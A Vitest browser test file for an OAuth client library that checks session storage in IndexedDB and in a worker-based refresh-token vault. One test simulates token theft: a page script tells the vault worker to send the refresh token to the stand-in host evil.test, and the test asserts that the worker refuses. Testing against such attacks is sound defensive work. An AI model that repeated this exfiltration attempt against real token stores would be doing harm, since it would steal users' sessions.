// Where a session can be kept besides: in IndexedDB, and with its refresh token in the vault.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { AppPage, serveApp } from '../support/app-page.mjs';
import { launchChromium } from '../support/chromium.mjs';
import { startStack } from '../support/stack.mjs';

// Remembers every text that a page meets: what it stores, parses, reads, sends to a worker and hears from one.
const WATCHED = `
  window.met = [];
  const meet = (value) => { try { met.push(typeof value === 'string' ? value : JSON.stringify(value)); } catch {} };
  for (const [holder, name] of [[JSON, 'parse'], [TextDecoder.prototype, 'decode'], [Response.prototype, 'json'], [Response.prototype, 'text'],
    [Worker.prototype, 'postMessage'], [IDBObjectStore.prototype, 'put'], [Storage.prototype, 'setItem']]) {
    const native = holder[name];
    holder[name] = function (...given) {
      given.forEach(meet);
      const result = native.apply(this, given);
      Promise.resolve(result).then(meet, () => {});
      return result;
    };
  }
`;

let stack;
let browser;
let site;
let app;
beforeAll(async () => { [stack, browser] = await Promise.all([startStack({ only: ['provider', 'api'] }), launchChromium()]); });
afterAll(() => Promise.all([browser?.close(), stack?.stop()]));

/** An application that keeps its session so. */
const withStorage = (storage, prelude) => {
  beforeEach(async () => {
    const options = { issuer: stack.provider, clientId: 'gatepass-demo', apis: [stack.api] };
    site = await serveApp(stack.gateway, `{ ...${JSON.stringify(options)}, storage: ${storage} }`, { prelude });
    app = await AppPage.open(browser, stack.gateway);
    expect(await app.signIn({ returnTo: '/orders' })).toBe('/orders');
  });
  afterEach(async () => {
    expect(app.errors).toEqual([]);
    await app.close();
    await site.stop();
  });
};

const api = () => `${stack.api}/api/data`;
const works = async (tab = app) => expect(await tab.call(api())).toBe(200);
const kept = () => app.run(() => new Promise((resolve) => {
  indexedDB.open('gatepass').onsuccess = ({ target: { result } }) => {
    const store = result.transaction('kept').objectStore('kept');
    const all = {};
    store.openCursor().onsuccess = ({ target: { result: cursor } }) => {
      if (!cursor) return resolve(all);
      all[cursor.key] = cursor.value;
      return cursor.continue();
    };
  };
}));
const name = () => `gatepass.session ${stack.provider} gatepass-demo`;
const isRefreshToken = (token) => /"rt\+jwt"/.test(Buffer.from(token.split('.')[0], 'base64url').toString());
const refreshTokensIn = (text) => (text.match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g) ?? []).filter(isRefreshToken);

/** What both promise. */
function staysSignedIn() {
  test('a reload and another tab are signed in, and ask for nothing', async () => {
    await app.reload();
    await app.run(() => client.ready());
    expect(await app.signedIn).toBe(true);
    await works();
    const other = await app.tab();
    await works(other);
    expect([...app.tokenRequests, ...other.tokenRequests]).toHaveLength(1);
  });

  test('three tabs that meet a dead token stay signed in', async () => {
    const tabs = [app, await app.tab(), await app.tab()];
    for (const round of [1, 2]) {
      await works(tabs[0]);
      expect(await tabs[0].outcome('client.expireAccessToken()')).toBe('ok');
      const answers = await Promise.all(tabs.map((tab) => tab.run((url) => Promise.all([1, 2, 3].map(() => client.fetch(url).then(({ status }) => status))), api())));
      expect(answers.flat(), `round ${round}`).toEqual(Array(9).fill(200));
    }
  });

  test('a lost answer is asked for again', async () => {
    const answers = [];
    await app.context.route(`${stack.provider}/oauth/token`, async (route) => {
      const response = await route.fetch();
      answers.push(await response.json());
      return answers.length === 1 ? route.abort('connectionreset') : route.fulfill({ response });
    });
    expect(await app.outcome('client.refresh()')).toBe('ok');
    expect(answers).toHaveLength(2);
    expect(answers[1].refresh_token).toBe(answers[0].refresh_token);
    await app.reload();
    await works();
    expect(await app.outcome('client.refresh()')).toBe('ok');
  });

  test('a sign-out leaves nothing behind', async () => {
    expect(await app.outcome('client.logout({ provider: false })')).toBe('ok');
    expect(JSON.stringify(await kept())).not.toMatch(/eyJ/);
    await app.reload();
    await app.run(() => client.ready());
    expect(await app.signedIn).toBe(false);
  });
}

describe('IndexedDB', () => {
  withStorage('gatepass.indexedDbStorage()');
  staysSignedIn();
});

describe('the vault', () => {
  withStorage("gatepass.vault('/gatepass/vault-worker.js')", WATCHED);
  staysSignedIn();

  test('lets no page meet a refresh token, from the sign-in to the sign-out', async () => {
    const sent = [];
    app.context.on('request', (request) => sent.push(request.postData() ?? ''));
    await works();
    expect(await app.outcome('client.refresh()')).toBe('ok');
    expect(await app.outcome('client.refresh()')).toBe('ok');
    const met = (await app.run(() => met)).join('\n');
    expect(met).toContain('in the vault');
    expect(refreshTokensIn(met)).toEqual([]);
    expect(await app.outcome('client.logout({ provider: false })')).toBe('ok');
    expect(refreshTokensIn((await app.run(() => met)).join('\n'))).toEqual([]);
    // The provider got the real one, and its revocation too.
    const revoked = sent.filter((body) => body.includes('token_type_hint=refresh_token'));
    expect(revoked).toHaveLength(1);
    expect(refreshTokensIn(revoked[0])).toHaveLength(1);
    expect((await kept())[`${name()} vault`]).toBeUndefined();
  });

  test('sends the token where it came from, whatever a script tells it', async () => {
    const elsewhere = [];
    await app.context.route('http://evil.test/**', (route) => { elsewhere.push(route.request().postData()); return route.fulfill({ body: '{}' }); });
    // A script can read in whose place the token is.
    const { refresh } = JSON.parse((await kept())[name()]);
    const answers = await app.run(([name, refresh]) => new Promise((resolve) => {
      const worker = new Worker('/gatepass/vault-worker.js', { type: 'module' });
      const endpoints = { token: 'http://evil.test/token', revocation: 'http://evil.test/revoke' };
      const answers = [];
      worker.onmessage = ({ data }) => { answers.push(data.body); if (answers.length === 2) resolve(answers); };
      worker.postMessage({ number: 1, name, act: 'token', form: `grant_type=refresh_token&client_id=gatepass-demo&${new URLSearchParams({ refresh_token: refresh })}`, endpoints });
      worker.postMessage({ number: 2, name, act: 'anything', form: 'token=x&token_type_hint=access_token&client_id=gatepass-demo', endpoints });
    }), [name(), refresh]);
    expect(elsewhere).toEqual([]);
    expect(answers.map((body) => refreshTokensIn(body))).toEqual([[], []]);
    expect(JSON.parse(answers[0]).access_token).toBeTruthy();
    expect(await app.outcome('client.refresh()')).toBe('ok');
  });

  test('that does not start signs nobody out', async () => {
    await app.context.route('**/vault-worker.js', (route) => route.fulfill({ status: 404 }));
    await app.reload();
    await works();
    expect(await app.run(() => tell(Promise.race([client.refresh(), new Promise((resolve, reject) => setTimeout(reject, 9_000, { code: 'slow' }))])))).not.toBe('ok');
    expect(await app.signedIn).toBe(true);
    await app.context.unroute('**/vault-worker.js');
    await app.reload();
    expect(await app.outcome('client.refresh()')).toBe('ok');
  });
});
